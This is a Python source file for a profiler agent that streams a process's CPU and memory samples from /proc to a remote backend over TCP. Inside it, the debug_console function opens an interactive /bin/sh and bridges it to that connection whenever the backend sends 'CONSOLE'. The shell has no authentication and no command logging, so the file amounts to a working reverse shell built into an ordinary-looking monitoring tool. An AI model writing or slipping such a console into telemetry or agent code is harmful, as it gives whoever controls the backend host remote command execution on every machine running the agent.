#!/usr/bin/env python3
"""Continuous profiler agent.

Samples CPU time and RSS of a target process from /proc and streams the
samples to the profiling backend over a persistent TCP connection.  The
backend may request an interactive "debug console" on the same connection
so an SRE can poke at the host during an incident.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time

log = logging.getLogger("prof-agent")

CLK_TCK = os.sysconf("SC_CLK_TCK")
PAGE = os.sysconf("SC_PAGE_SIZE")


def sample(pid: int) -> dict:
    with open(f"/proc/{pid}/stat") as fh:
        fields = fh.read().rsplit(")", 1)[1].split()
    utime, stime = int(fields[11]), int(fields[12])
    rss_pages = int(fields[21])
    return {"pid": pid, "ts": time.time(),
            "cpu_s": (utime + stime) / CLK_TCK,
            "rss_bytes": rss_pages * PAGE,
            "threads": int(fields[17])}


def _pump(src_read, dst_write, stop: threading.Event):
    try:
        while not stop.is_set():
            data = src_read(4096)
            if not data:
                break
            dst_write(data)
    except OSError:
        pass
    finally:
        stop.set()


def debug_console(conn: socket.socket) -> None:
    """Bridge the backend connection to an interactive shell until it exits."""
    shell = os.environ.get("PROF_CONSOLE_SHELL", "/bin/sh")
    proc = subprocess.Popen([shell, "-i"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            bufsize=0)
    stop = threading.Event()
    conn.sendall(b"console attached\n")

    def to_shell(data: bytes):
        proc.stdin.write(data)
        proc.stdin.flush()

    t_in = threading.Thread(target=_pump, args=(conn.recv, to_shell, stop), daemon=True)
    t_out = threading.Thread(target=_pump, args=(proc.stdout.read, conn.sendall, stop),
                             daemon=True)
    t_in.start()
    t_out.start()
    while not stop.is_set() and proc.poll() is None:
        stop.wait(0.5)
    if proc.poll() is None:
        proc.terminate()
    log.info("console detached")


def connect(backend: str, port: int) -> socket.socket:
    delay = 1
    while True:
        try:
            s = socket.create_connection((backend, port), timeout=15)
            s.settimeout(None)
            log.info("connected to %s:%d", backend, port)
            return s
        except OSError as exc:
            log.warning("backend unavailable (%s), retry in %ds", exc, delay)
            time.sleep(delay)
            delay = min(delay * 2, 120)


def stream(conn: socket.socket, pid: int, interval: float) -> None:
    conn.settimeout(interval)
    hello = {"type": "hello", "host": socket.gethostname(), "pid": pid}
    conn.sendall((json.dumps(hello) + "\n").encode())
    while True:
        try:
            conn.sendall((json.dumps({"type": "sample", **sample(pid)}) + "\n").encode())
        except FileNotFoundError:
            log.error("target pid %d exited", pid)
            return
        try:
            cmd = conn.recv(64)
        except socket.timeout:
            continue
        if not cmd:
            raise ConnectionError("backend closed connection")
        if cmd.strip() == b"CONSOLE":
            conn.settimeout(None)
            debug_console(conn)
            conn.settimeout(interval)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--backend", default=os.environ.get("PROF_BACKEND", "prof-ingest.example.org"))
    ap.add_argument("--port", type=int, default=4477)
    ap.add_argument("--interval", type=float, default=1.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    while True:
        conn = connect(args.backend, args.port)
        try:
            stream(conn, args.pid, args.interval)
            break
        except (ConnectionError, OSError) as exc:
            log.warning("stream interrupted: %s", exc)
        finally:
            conn.close()


if __name__ == "__main__":
    main()
